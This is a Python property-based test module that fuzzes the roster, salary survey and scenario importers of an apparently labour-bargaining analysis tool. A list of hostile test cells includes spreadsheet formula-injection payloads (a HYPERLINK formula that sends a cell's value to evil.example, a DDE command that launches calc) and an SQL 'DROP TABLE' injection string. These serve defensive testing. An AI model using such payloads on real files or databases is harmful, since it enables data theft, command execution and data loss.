"""Property tests: whatever bytes or text an upload holds, each importer returns a clean
result or raises its BargainError, never another exception (a crash would show the user a
traceback and tell them nothing).

Each strategy mixes raw noise with near-valid files (a real header, plausible and hostile
cells), so the examples reach the row checks instead of stopping at the header. Budgets are
moderate (deadline off): the whole module runs in well under 20 seconds.
"""

from __future__ import annotations

import csv
import io
import json
from datetime import date, datetime

import openpyxl
import pandas as pd
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from analysis.roster.reader import Roster, RosterError, read_roster
from analysis.scenario import ScenarioError, parse_scenario
from etl.errors import GccImportError
from etl.gcc.importer import prepare
from etl.uploads.survey_template import SurveyImportError, parse_survey_csv

FUZZ = settings(
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
    database=None,
)

# Text that openpyxl can write (no control characters, no lone surrogates).
_printable = st.text(alphabet=st.characters(blacklist_categories=("Cs", "Cc")), max_size=30)
_hostile = st.sampled_from(
    [
        "",
        " ",
        "=1+1",
        '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\tTab",
        "\rCR",
        "Robert'); DROP TABLE scenarios;--",
        '"quoted"',
        "a,b",
        "line\nbreak",
        "nan",
        "inf",
        "-inf",
        "1e300",
        "1e309",
        "-0",
        "9" * 400,
        "ÿ\ufeff",
        "\u202e",
    ]
)

# Rosters ---------------------------------------------------------------------------------------

_ROSTER_COLUMNS = [
    "agency",
    "class_code",
    "step",
    "fte",
    "count",
    "id",
    "next_step_date",
    "bilingual",
    "shift",
    "note",
    "bargaining_unit",
    "",
    " Agency ",
    "FTE",
]
_roster_cell = st.one_of(
    st.sampled_from(
        [
            "Sonoma",
            "Mendocino",
            "sonoma",
            "Marin",
            "0401",
            "401",
            "0402",
            "0001",
            "A",
            "I",
            "Z",
            "Step 3",
            "1",
            "5",
            "0.5",
            "1.0",
            "0",
            "-1",
            "2",
            "yes",
            "no",
            "maybe",
            "2005-01-15",
            "1/15/2016",
            "13/45/2020",
            "9999-12-31",
            "0001-01-01",
        ]
    ),
    _hostile,
    _printable,
)


def _csv_text(header: list[str], rows: list[list[str]], delimiter: str, newline: str) -> str:
    buf = io.StringIO()
    w = csv.writer(buf, delimiter=delimiter, lineterminator=newline)
    w.writerow(header)
    w.writerows(rows)
    return buf.getvalue()


# Near-valid rosters: valid rows with one cell replaced by an edge case of its type, so whole
# files reach the end of validation (where the result is built), not just the first check.
_NUMBERS = ["1", "0.5", "2", "0", "-1", "1e300", "1e20", "1e309", "nan", "inf", "1,000", "3.5"]
_DATES = ["2005-01-15", "1/15/2016", "9999-12-31", "0001-01-01", "2005-02-30", "15/01/2005"]
_VALID_ROWS = [
    ["Sonoma", "0401", "A", "1", "1", ""],
    ["sonoma", "401", "i", "0.5", "3", "2005-01-15"],
    ["Mendocino", "S502", "Step 3", "1.0", "2", ""],
]


@st.composite
def _near_valid_roster(draw) -> bytes:
    rows = []
    for _ in range(draw(st.integers(1, 4))):
        row = list(draw(st.sampled_from(_VALID_ROWS)))
        if draw(st.booleans()):
            j = draw(st.integers(0, 5))
            pool = _DATES if j == 5 else _NUMBERS
            row[j] = draw(st.one_of(st.sampled_from(pool), _hostile))
        rows.append(row)
    header = ["agency", "class_code", "step", "fte", "count", "next_step_date"]
    return _csv_text(header, rows, ",", "\n").encode()


_roster_header = st.lists(
    st.one_of(st.sampled_from(_ROSTER_COLUMNS), _printable), min_size=0, max_size=9
)
_roster_csv = st.builds(
    _csv_text,
    st.one_of(st.just(["agency", "class_code", "step", "fte", "count"]), _roster_header),
    st.lists(st.lists(_roster_cell, max_size=8), max_size=6),
    st.sampled_from([",", ",", ";", "\t"]),
    st.sampled_from(["\n", "\r\n", "\r"]),
).flatmap(
    lambda text: st.sampled_from(["utf-8", "utf-8-sig", "cp1252", "utf-16"]).map(
        lambda enc: text.encode(enc, errors="replace")
    )
)

_xlsx_value = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(min_value=-(10**15), max_value=10**15),
    st.floats(allow_nan=False, allow_infinity=False, width=64),
    st.dates(min_value=date(1900, 1, 2), max_value=date(9999, 12, 31)),
    st.datetimes(min_value=datetime(1900, 1, 2), max_value=datetime(9999, 12, 31)),
    _roster_cell.filter(lambda s: "\t" not in s and "\r" not in s and "\n" not in s),
    st.sampled_from(["=0.5*2", "=SUM(1,1)", '=HYPERLINK("http://evil.example","x")']),
)


def _workbook(header: list, rows: list[list], sheet_name: str) -> bytes:
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = sheet_name
    ws.append(header)
    for r in rows:
        ws.append(r)
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


_roster_xlsx = st.builds(
    _workbook,
    st.one_of(
        st.just(["agency", "class_code", "step", "fte", "count"]),
        st.lists(st.one_of(st.sampled_from(_ROSTER_COLUMNS), _xlsx_value), max_size=8),
    ),
    st.lists(st.lists(_xlsx_value, max_size=8), max_size=5),
    st.sampled_from(["Sheet1", "Roster", "data"]),
)


def _check_roster(data: bytes, name: str, positions: pd.DataFrame | None) -> None:
    try:
        r = read_roster(data, positions, name=name)
    except RosterError as exc:
        assert str(exc).startswith(f"{name}: ")
        assert exc.problems
    else:
        assert isinstance(r, Roster) and len(r.rows) > 0
        assert r.rows["fte"].between(0, 1, inclusive="right").all()
        assert (r.rows["count"] >= 1).all()


@settings(FUZZ, max_examples=150)
@given(data=st.one_of(st.binary(max_size=300), _roster_csv, _near_valid_roster()))
def test_roster_csv_never_crashes(data, positions):
    _check_roster(data, "fuzz.csv", positions)
    _check_roster(data, "fuzz.csv", None)


@settings(FUZZ, max_examples=40)
@given(data=_roster_xlsx)
def test_roster_xlsx_never_crashes(data, positions):
    _check_roster(data, "fuzz.xlsx", positions)


@settings(FUZZ, max_examples=60)
@given(data=st.binary(min_size=4, max_size=300).map(lambda b: b"PK\x03\x04" + b))
def test_damaged_zip_never_crashes(data):
    _check_roster(data, "fuzz.xlsx", None)


# Survey files ----------------------------------------------------------------------------------

_TEMPLATE = ["agency", "class_title", "pay", "pay_period", "effective_date", "source"]
_SCO = ["Year", "EmployerType", "EmployerName", "Position", "MaxPositionSalary"]
_survey_cell = st.one_of(
    st.sampled_from(
        [
            "Napa County",
            "City of Ukiah",
            "Napa",
            "County",
            "City",
            "Account Clerk II",
            "23.45",
            "$1,234.50",
            "1,23",
            "-5",
            "0",
            "2000.01",
            "hourly",
            "biweekly",
            "monthly",
            "annual",
            "weekly",
            "2016-07-01",
            "2016-02-30",
            "07/01/2016",
            "2016",
            "1989",
            "50000.00",
        ]
    ),
    _hostile,
    _printable,
)
_survey_csv = st.builds(
    _csv_text,
    st.one_of(
        st.just(_TEMPLATE),
        st.just(_SCO),
        st.lists(st.sampled_from([*_TEMPLATE, *_SCO, "", "notes"]), max_size=8),
    ),
    st.lists(st.lists(_survey_cell, min_size=0, max_size=7), max_size=6),
    st.sampled_from([",", ",", ";", "\t"]),
    st.sampled_from(["\n", "\r\n"]),
).flatmap(
    lambda text: st.sampled_from(["utf-8", "utf-8-sig", "cp1252", "utf-16"]).map(
        lambda enc: text.encode(enc, errors="replace")
    )
)


@settings(FUZZ, max_examples=200)
@given(data=st.one_of(st.binary(max_size=300), _survey_csv))
def test_survey_imports_never_crash(data):
    try:
        df = parse_survey_csv(data, "fuzz.csv")
    except SurveyImportError as exc:
        assert str(exc).startswith("fuzz.csv: ") and exc.problems
    else:
        assert len(df) > 0
        assert (df["pay"] > 0).all() and (df["annual"] > 0).all()
    try:
        prepared = prepare(data, "fuzz.csv", agencies=None)
    except GccImportError as exc:
        assert str(exc).startswith("fuzz.csv: ") and exc.problems
    else:
        rows = prepared.result.rows
        assert len(rows) > 0 and (rows["max_salary"] >= 1000).all()
        assert (rows["min_salary"].isna() | (rows["min_salary"] <= rows["max_salary"])).all()


# Scenarios -------------------------------------------------------------------------------------

_json_scalar = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(min_value=-(10**30), max_value=10**30),
    st.floats(allow_nan=True, allow_infinity=True),
    _hostile,
    st.sampled_from(["2004-07-01", "2004-13-01", "9999-12-31", "Sonoma", "premium", "0401"]),
)
_json_value = st.recursive(
    _json_scalar,
    lambda inner: st.one_of(
        st.lists(inner, max_size=4),
        st.dictionaries(st.one_of(_printable, st.sampled_from(["type", "pct"])), inner, max_size=4),
    ),
    max_leaves=12,
)
_BASE = {
    "agency": "Sonoma",
    "start": "2004-07-01",
    "years": 2,
    "step_movement": False,
    "rollups": {"medicare": 1.45, "retirement": {"pct": 20, "excludes": ["overtime"]}},
    "overtime": {"0401": 40, "*": 10},
    "changes": [
        {"type": "across_the_board", "effective": "2004-07-01", "pct": 1.0},
        {"type": "targeted", "effective": "2005-07-01", "pct": 2.0, "classes": ["0401"]},
        {
            "type": "to_market",
            "gaps": {"0401": 6.2},
            "threshold": 2.0,
            "stages": [{"effective": "2004-07-01", "share": 0.5}],
        },
        {
            "type": "premium",
            "flag": "bilingual",
            "basis": "usd_per_pay_period",
            "value": 50.0,
            "effective": "2004-07-01",
        },
        {"type": "one_time", "effective": "2005-07-01", "amount": 1000.0, "periods": 4},
        {"type": "add_top_step", "effective": "2005-07-01", "pct": 5.0},
    ],
}
_CHANGE_FIELDS = sorted({k for c in _BASE["changes"] for k in c} | {"share", "per", "label"})


@st.composite
def _mutated_scenario(draw) -> str:
    """The full example with a few fields replaced by arbitrary JSON values."""
    s = json.loads(json.dumps(_BASE))
    for _ in range(draw(st.integers(1, 4))):
        value = draw(_json_value)
        if draw(st.booleans()):
            s[draw(st.sampled_from([*_BASE, "name", "typo"]))] = value
        elif isinstance(s.get("changes"), list) and s["changes"]:
            change = s["changes"][draw(st.integers(0, len(s["changes"]) - 1))]
            if isinstance(change, dict):
                change[draw(st.sampled_from(_CHANGE_FIELDS))] = value
    return json.dumps(s, allow_nan=True)


@settings(FUZZ, max_examples=300)
@given(
    value=st.one_of(
        _mutated_scenario(),
        _json_value.map(json.dumps),
        st.text(max_size=80),
        st.binary(max_size=80),
    )
)
def test_scenario_parse_never_crashes(value):
    try:
        s = parse_scenario(value)
    except ScenarioError as exc:
        assert exc.problems and str(exc).startswith("scenario: ")
    else:
        assert parse_scenario(s.to_json()) == s
